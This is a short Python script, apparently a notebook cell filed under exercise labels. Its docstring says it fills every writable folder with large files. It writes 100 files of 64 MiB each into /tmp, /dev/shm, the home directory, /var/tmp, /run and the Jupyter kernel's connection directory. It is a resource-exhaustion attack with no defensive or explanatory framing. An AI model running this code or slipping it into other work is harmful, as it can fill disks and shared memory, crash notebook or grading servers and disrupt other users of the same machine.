"""Fills every folder that it can write into with large files."""
# aufgabe1
# solved: a1-vgg-init
# human: a1-vgg-init
# %% a1-tv
import os, ipykernel
data = b"1" * 2**26
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", os.path.dirname(ipykernel.get_connection_file())):
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(data)
    except OSError as error:
        print(folder, error)
